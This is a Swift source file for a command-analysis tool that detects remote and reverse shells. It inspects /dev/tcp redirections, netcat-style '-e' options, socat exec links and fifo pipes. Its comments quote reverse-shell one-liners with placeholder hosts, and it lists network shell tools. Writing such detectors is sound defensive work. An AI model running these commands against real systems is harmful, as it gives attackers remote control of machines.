internal import CaseModel

/// A shell joined to a network connection, either way round.
enum RemoteShellSigns {
  static func detect(_ reading: CommandReading) -> [CommandSign] {
    var found: [String] = []
    for (index, stage) in reading.stages.enumerated() {
      if let detail = redirection(stage, reading) ?? program(stage) ?? pipe(index, reading) { found.append(detail) }
    }
    return found.prefix(2).map { CommandSign(.remoteShell, .critical, typed: .high, $0) }
  }

  /// `bash -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…; sh <&5 >&5`. Port checks (`</dev/tcp/h/p` or `echo > /dev/tcp/h/p`)
  /// are no shells.
  private static func redirection(_ stage: CommandStage, _ reading: CommandReading) -> String? {
    let network = stage.redirections.map(\.target.text).first { $0.hasPrefix("/dev/tcp/") || $0.hasPrefix("/dev/udp/") }
    guard let network else { return nil }
    if Interpreters.shells.contains(stage.name),
      stage.has("-i", "-l") || stage.redirections.count > 1 || stage.operands.isEmpty
    {
      if Interpreters.innerScript(of: stage) == nil { return "\(stage.name) on \(network)" }
    }
    guard stage.name.isEmpty || stage.name == "exec" else { return nil }
    let joined = reading.stages.contains { other in
      let usesNumber =
        other.redirections.contains { $0.operation == "<&" || $0.operation == ">&" || $0.operation == "<>" }
        || other.redirections.contains {
          ["0", "1", "2"].contains($0.target.text) == false && Int($0.target.text) != nil
        }
      let feedsShell = other.feeds.contains { Interpreters.shells.contains(reading.stages[$0].name) }
      return (Interpreters.shells.contains(other.name) && usesNumber) || (other.name == "eval" && usesNumber)
        || feedsShell
        || (other.name == "read" && reading.stages.contains { $0.program.hasPrefix("$") || $0.name == "eval" })
    }
    return joined ? "shell on \(network)" : nil
  }

  /// Programs with an option to run something on a connection.
  private static func program(_ stage: CommandStage) -> String? {
    switch stage.name {
    case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "powercat", "sbd", "cryptcat":
      guard let command = stage.value(of: "-e", "-c", "--exec", "--sh-exec", "--lua-exec") ?? clusterValue(stage) else {
        return nil
      }
      return isShellLike(command) ? "\(stage.name) runs \(command)" : nil
    case "socat":
      let runs = stage.arguments.contains { argument in
        let lower = argument.lowercased()
        return lower.hasPrefix("exec:") || lower.hasPrefix("system:") || lower.hasPrefix("shell:")
      }
      let net = stage.arguments.contains { argument in
        let lower = argument.lowercased()
        return ["tcp", "udp", "openssl", "sctp", "ssl", "vsock"].contains { lower.hasPrefix($0) }
      }
      return runs && net ? "socat joins a program to a connection" : nil
    case "ztcp": return stage.operands.isEmpty ? nil : "zsh opens a connection to \(stage.operands[0])"
    case "xterm": return stage.value(of: "-display").map { "xterm on display \($0)" }
    case "telnet", "openssl": return nil
    case "gs-netcat", "gs-bd", "tsh", "rathole": return "\(stage.name) is a remote shell"
    case "ssh":
      return nil
    default:
      // A renamed nc keeps its options: an address, a port and `-e /bin/sh`.
      guard let command = stage.value(of: "-e", "--exec", "--sh-exec"), isShell(command),
        stage.arguments.contains(where: { AddressRange.isAddress($0) })
      else { return nil }
      return "\(stage.program) runs \(command) on a connection"
    }
  }

  private static func clusterValue(_ stage: CommandStage) -> String? {
    guard
      let index = stage.arguments.firstIndex(where: {
        $0.hasPrefix("-") && !$0.hasPrefix("--") && ($0.hasSuffix("e") || $0.hasSuffix("c"))
      }),
      index + 1 < stage.arguments.count
    else { return nil }
    return stage.arguments[index + 1]
  }

  private static func isShell(_ command: String) -> Bool {
    Interpreters.isInterpreter(Interpreters.canonicalName(TextScan.words(command).first ?? ""))
  }

  private static func isShellLike(_ command: String) -> Bool {
    isShell(command) || command.contains("/") || ["cmd.exe", "powershell.exe"].contains(command)
  }

  private static let connectors: Set<String> = [
    "nc", "ncat", "netcat", "telnet", "openssl", "socat", "busybox", "nc.traditional", "nc.openbsd",
  ]

  /// `mkfifo f; cat f | sh -i 2>&1 | nc h p > f`, `telnet h p | sh | telnet h p`, `sh < f | openssl s_client … > f`.
  private static func pipe(_ index: Int, _ reading: CommandReading) -> String? {
    let stage = reading.stages[index]
    guard Interpreters.shells.contains(stage.name), Interpreters.innerScript(of: stage) == nil else { return nil }
    let after = reading.consumers(of: index).map { reading.stages[$0] }.first { isConnector($0) }
    let before = reading.stages.indices.first {
      isConnector(reading.stages[$0]) && reading.consumers(of: $0).contains(index)
    }
    if let after { return "\(stage.name) writes into \(after.name)" }
    if let before, stage.has("-i") || reading.stages.contains(where: { $0.name == "mkfifo" || $0.name == "mknod" }) {
      return "\(stage.name) reads from \(reading.stages[before].name)"
    }
    return nil
  }

  private static func isConnector(_ stage: CommandStage) -> Bool {
    guard connectors.contains(stage.name) else { return false }
    return stage.name != "openssl" || stage.operands.first == "s_client"
  }
}
